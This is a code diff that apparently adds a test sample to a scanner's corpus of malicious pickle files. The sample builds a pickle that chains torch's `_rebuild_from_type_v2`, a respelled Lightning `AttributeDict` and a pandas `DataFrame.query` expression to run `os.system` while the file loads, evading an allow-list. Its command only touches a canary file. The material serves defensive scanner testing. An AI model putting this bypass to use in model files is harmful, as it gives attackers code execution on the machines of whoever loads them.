@@ -9,7 +9,14 @@ arguments of an allowed callable that *does* call it while the file loads:
 - a numpy ufunc on object arrays (``numpy.arctan2``, allowed) calls, for each pair of
   elements, the element's method of the same name: ``a.arctan2(b)``;
 - numpy's ``Generator`` unpickler, ``numpy.random._pickle.__generator_ctor(name, ctor)``
-  (allowed), calls ``ctor(name)``: any callable, with any argument.
+  (allowed), calls ``ctor(name)``: any callable, with any argument;
+- torch's ``_rebuild_from_type_v2(func, new_type, args, state)`` (allowed, and known to call
+  ``func``) calls ``ret.as_subclass(new_type)`` on what ``func(*args)`` returns: Lightning's
+  ``AttributeDict`` (allowed) answers attribute lookups with its items, so a
+  ``methodcaller('query', df, '@torch.os.system(...)')`` stored under ``as_subclass`` runs
+  ``pandas.DataFrame.query``, whose ``@`` names reach the globals of the calling frame
+  (``torch._tensor``'s): a shell command, through the wrapper the engine had let through
+  because the only code it is handed to was ``_rebuild_from_type_v2``.
 
 In both the methodcaller is ``methodcaller('tofile', path)`` applied to an array: it writes
 the file at ``path`` (the canary; with ``sep`` and ``format`` arguments, chosen text around
@@ -119,6 +126,32 @@ def _generator_ctor_calls_a_methodcaller(canary: Path) -> bytes:
     )
 
 
+def _attribute_dict_runs_a_pandas_query(canary: Path) -> bytes:
+    # _rebuild_from_type_v2(AttributeDict, DataFrame, ({"as_subclass": methodcaller("query",
+    # df, expr)},), {}): ret = AttributeDict(...); ret.as_subclass(DataFrame) is
+    # DataFrame.query(df, expr), and expr's @torch resolves in _rebuild_from_type_v2's globals.
+    import pandas as pd
+    from torch._tensor import _rebuild_from_type_v2
+
+    class AttributeDict(dict):  # Lightning's, respelled below
+        pass
+
+    AttributeDict.__module__, AttributeDict.__qualname__ = "_rev1_stand_in", "AttributeDict"
+    module = sys.modules.setdefault("_rev1_stand_in", types.ModuleType("_rev1_stand_in"))
+    module.AttributeDict = AttributeDict  # type: ignore[attr-defined]
+    query = operator.methodcaller(
+        "query", pd.DataFrame({"a": [1]}), f'@torch.os.system("touch {canary}")'
+    )
+    payload = _Reduce(
+        _rebuild_from_type_v2, (AttributeDict, pd.DataFrame, ({"as_subclass": query},), {})
+    )
+    return _as_global(
+        pickle.dumps(payload, protocol=2),
+        b"c_rev1_stand_in\nAttributeDict\n",
+        b"clightning_fabric.utilities.data\nAttributeDict\n",
+    )
+
+
 SAMPLES: list[Sample] = [
     file_sample(
         "rev1-sklearn-reexported-linear-operator-calls-a-methodcaller",
@@ -154,6 +187,15 @@ SAMPLES: list[Sample] = [
         _PICKLE_LOAD,
         rules=_RULES,
         requires=("numpy",),
+    ),
+    file_sample(
+        "rev1-attribute-dict-in-rebuild-from-type-runs-a-pandas-query",
+        _attribute_dict_runs_a_pandas_query,
+        "torch's _rebuild_from_type_v2 calls ret.as_subclass, which Lightning's AttributeDict "
+        "answers with a stored methodcaller: DataFrame.query evaluates '@torch.os.system(...)'",
+        _PICKLE_LOAD,
+        rules=_RULES,
+        requires=("pandas", "torch", "lightning_fabric"),
     ),
     file_sample(
         "rev1-legacy-torch-magic-number-frame-hides-a-pickle",
